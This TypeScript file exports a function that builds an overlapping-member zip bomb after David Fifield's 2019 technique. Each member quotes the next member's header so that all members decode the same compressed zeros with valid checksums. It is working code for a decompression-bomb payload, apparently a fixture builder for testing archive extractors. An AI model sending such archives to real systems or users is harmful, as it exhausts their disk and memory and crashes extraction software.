import { crc32, deflateRawSync } from 'node:zlib';

function localHeader(name: Buffer, crc: number, stored: number, size: number): Buffer {
  const header = Buffer.alloc(30);
  header.writeUInt32LE(0x04034b50, 0);
  header.writeUInt16LE(20, 4);
  header.writeUInt16LE(8, 8);
  header.writeUInt16LE(0x1883, 10);
  header.writeUInt16LE(0x5c22, 12);
  header.writeUInt32LE(crc, 14);
  header.writeUInt32LE(stored, 18);
  header.writeUInt32LE(size, 22);
  header.writeUInt16LE(name.byteLength, 26);
  return Buffer.concat([header, name]);
}

/** The header of the next member as a stored block of deflate, RFC 1951 section 3.2.4, so that it is content, too. */
function quoted(header: Buffer): Buffer {
  const block = Buffer.from([0, 0, 0, 0, 0]);
  block.writeUInt16LE(header.byteLength, 1);
  block.writeUInt16LE(header.byteLength ^ 0xffff, 3);
  return Buffer.concat([block, header]);
}

/**
 * A zip bomb as David Fifield's (WOOT 2019): `count` members, each of which quotes the header of the next and then goes
 * on through its data, so that all of them decode the same compressed zeros. Each checksum and size is true.
 */
export function buildOverlappingZip(count: number, zeroBytes: number): Buffer {
  const kernel = deflateRawSync(Buffer.alloc(zeroBytes));
  let content: Buffer = Buffer.alloc(zeroBytes);
  let records = kernel;
  let stored = kernel.byteLength;
  const members: { name: Buffer; crc: number; stored: number; size: number; offsetFromEnd: number }[] = [];
  for (let index = count - 1; index >= 0; index -= 1) {
    const name = Buffer.from(String(index).padStart(4, '0'));
    const crc = crc32(content);
    const size = content.byteLength;
    const header = localHeader(name, crc, stored, size);
    const quote = quoted(header);
    records = Buffer.concat([index === 0 ? header : quote, records]);
    members.unshift({ name, crc, stored, size, offsetFromEnd: records.byteLength - (index === 0 ? 0 : 5) });
    content = Buffer.concat([header, content]);
    stored += quote.byteLength;
  }
  const central = members.map(({ name, crc, stored: storedBytes, size, offsetFromEnd }) => {
    const record = Buffer.alloc(46);
    record.writeUInt32LE(0x02014b50, 0);
    record.writeUInt16LE(20, 4);
    localHeader(name, crc, storedBytes, size).copy(record, 6, 4, 30);
    record.writeUInt32LE(records.byteLength - offsetFromEnd, 42);
    return Buffer.concat([record, name]);
  });
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(count, 8);
  end.writeUInt16LE(count, 10);
  end.writeUInt32LE(directory.byteLength, 12);
  end.writeUInt32LE(records.byteLength, 16);
  return Buffer.concat([records, directory, end]);
}
